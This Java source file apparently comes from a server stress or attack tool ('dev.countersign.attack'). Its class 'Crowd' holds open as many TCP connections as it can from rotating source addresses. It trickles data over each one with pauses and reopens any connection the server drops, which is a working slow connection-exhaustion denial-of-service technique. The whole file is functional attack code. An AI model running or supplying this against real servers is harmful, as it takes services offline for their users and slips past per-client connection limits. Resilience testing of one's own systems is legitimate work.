package dev.countersign.attack;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.time.Duration;

/**
 * Keeps so many connections open, each of which sends the same and waits; what the server closes is opened again.
 * Used by one thread.
 */
final class Crowd implements Attacker {

    private static final int MAX_OPENED_PER_TICK = 20;
    private static final int MAX_PIECES_PER_TURN = 256;
    private static final Duration TICK = Duration.ofMillis(20);

    private final InetSocketAddress server;
    private final int size;
    private final Sources sources;
    private final Connection connection;
    private final ByteBuffer away = ByteBuffer.allocateDirect(64 * 1024);
    private long begun;

    Crowd(InetSocketAddress server, int size, int sources, Connection connection) {
        this.server = server;
        this.size = size;
        this.sources = new Sources(sources);
        this.connection = connection;
    }

    @Override
    public long run(Duration time) throws IOException {
        long end = System.nanoTime() + time.toNanos();
        try (Selector selector = Selector.open()) {
            while (System.nanoTime() < end) {
                fill(selector);
                selector.select(TICK.toMillis());
                selector.selectedKeys().clear();
                for (SelectionKey key : selector.keys()) {
                    attend(key);
                }
            }
            for (SelectionKey key : selector.keys()) {
                key.channel().close();
            }
        }
        return begun;
    }

    private void fill(Selector selector) throws IOException {
        for (int i = 0; i < MAX_OPENED_PER_TICK && selector.keys().size() < size; i++) {
            SocketChannel channel = SocketChannel.open();
            channel.configureBlocking(false);
            channel.bind(sources.next());
            channel.connect(server);
            int interest = SelectionKey.OP_CONNECT;
            channel.register(selector, interest, new Progress(connection));
            begun++;
        }
    }

    private void attend(SelectionKey key) throws IOException {
        if (!key.isValid()) {
            return;
        }
        SocketChannel channel = (SocketChannel) key.channel();
        Progress progress = (Progress) key.attachment();
        try {
            if (channel.isConnectionPending() && !channel.finishConnect()) {
                return;
            }
            if (connection.reads() && isAtEnd(channel)) {
                key.cancel();
                channel.close();
                return;
            }
            boolean full = progress.send(channel);
            key.interestOps((connection.reads() ? SelectionKey.OP_READ : 0) | (full ? SelectionKey.OP_WRITE : 0));
        } catch (IOException e) {
            // Closed or refused by the server: the next tick opens another one.
            key.cancel();
            channel.close();
        }
    }

    private boolean isAtEnd(SocketChannel channel) throws IOException {
        int read;
        do {
            away.clear();
            read = channel.read(away);
        } while (read > 0);
        return read < 0;
    }

    /** How far one connection has come. */
    private static final class Progress {
        private final Connection connection;
        private ByteBuffer current;
        private long sent;
        private long nextPiece;

        Progress(Connection connection) {
            this.connection = connection;
            this.current = connection.openingBytes();
        }

        /** Whether the connection takes no more for now. */
        boolean send(SocketChannel channel) throws IOException {
            for (int i = 0; i < MAX_PIECES_PER_TURN; i++) {
                channel.write(current);
                if (current.hasRemaining()) {
                    return true;
                }
                long now = System.nanoTime();
                if (sent >= connection.pieces() || (nextPiece != 0 && now < nextPiece)) {
                    return false;
                }
                current = connection.pieceBytes();
                sent++;
                nextPiece = connection.pause().isZero()
                        ? 0
                        : now + connection.pause().toNanos();
            }
            return true;
        }
    }
}
